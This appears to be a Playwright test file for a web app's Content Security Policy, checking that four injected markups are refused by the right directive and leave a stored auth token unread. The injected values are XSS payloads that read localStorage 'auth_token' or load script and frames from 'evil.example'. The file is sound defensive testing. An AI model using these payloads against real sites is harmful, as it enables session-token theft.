/// <reference lib="dom" />
import { expect, test } from '@playwright/test'

const injections = [
  ['an inline script', 'script-src-elem', '<script>window.stolen = localStorage.getItem("auth_token")</script>'],
  ['an event handler', 'script-src-attr', '<img src="data:," onerror="window.stolen = localStorage.auth_token">'],
  ['a script from elsewhere', 'script-src-elem', '<script src="https://evil.example/steal.js"></script>'],
  ['a frame with a script', 'frame-src', '<iframe src="https://evil.example/"></iframe>'],
] as const

for (const [name, directive, markup] of injections) {
  test(`[A17] ${name} that gets into the page does not run, and the token stays unread`, async ({ page }) => {
    await page.goto('/')
    const outcome = await page.evaluate((html) => {
      localStorage.setItem('auth_token', 'the token')
      const refused = new Promise<string>((resolve) => {
        document.addEventListener('securitypolicyviolation', (event) => resolve(event.effectiveDirective), {
          once: true,
        })
      })
      // Unlike innerHTML, a fragment made this way also runs the scripts in it.
      document.body.append(document.createRange().createContextualFragment(html))
      return refused.then((refusedBy) => ({ refusedBy, isStolen: 'stolen' in window }))
    }, markup)
    expect(outcome).toEqual({ refusedBy: directive, isStolen: false })
  })
}
